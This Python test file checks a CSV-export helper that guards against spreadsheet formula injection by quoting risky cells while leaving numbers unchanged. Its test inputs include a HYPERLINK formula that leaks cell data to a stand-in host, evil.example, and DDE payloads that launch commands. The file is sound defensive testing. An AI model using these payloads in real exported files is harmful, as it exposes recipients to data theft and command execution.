"""Text a spreadsheet would run as a formula is written as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from app.core import csvsafe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "\uff1dSUM(1)",  # full-width =, a formula sign in Japanese Excel
    ],
)
def test_a_formula_gets_a_quote_and_the_import_takes_it_off(text: str) -> None:
    out = io.StringIO()
    csvsafe.writer(out).writerow([text, "Shop"])
    written = next(csv.reader(io.StringIO(out.getvalue())))
    assert written == ["'" + text, "Shop"]
    assert csvsafe.unescape(written[0]) == text


@pytest.mark.parametrize("value", ["-12.50", "+3", "-0.166667", "-1e3", -12, Decimal("-0.12"), 0.5])
def test_numbers_are_written_as_they_are(value: object) -> None:
    assert csvsafe.cell(value) == value


@pytest.mark.parametrize("text", ["Soho", "a=b", " =1+1", "", "'-12.50"])
def test_other_text_is_untouched_both_ways(text: str) -> None:
    assert csvsafe.cell(text) == text
    assert csvsafe.unescape(text) == text


def test_none_is_a_blank_cell() -> None:
    assert csvsafe.cell(None) == ""
